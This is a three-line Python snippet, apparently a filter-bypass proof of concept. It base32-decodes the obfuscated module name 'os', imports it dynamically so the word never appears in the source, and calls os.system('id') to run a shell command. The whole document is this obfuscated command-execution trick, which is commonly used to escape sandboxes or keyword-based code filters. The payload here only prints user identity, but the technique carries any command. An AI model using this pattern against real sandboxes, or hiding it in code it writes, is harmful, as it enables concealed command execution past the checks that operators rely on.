import base64
m = __import__(base64.b32decode("N5ZQ====").decode())
m.system("id")
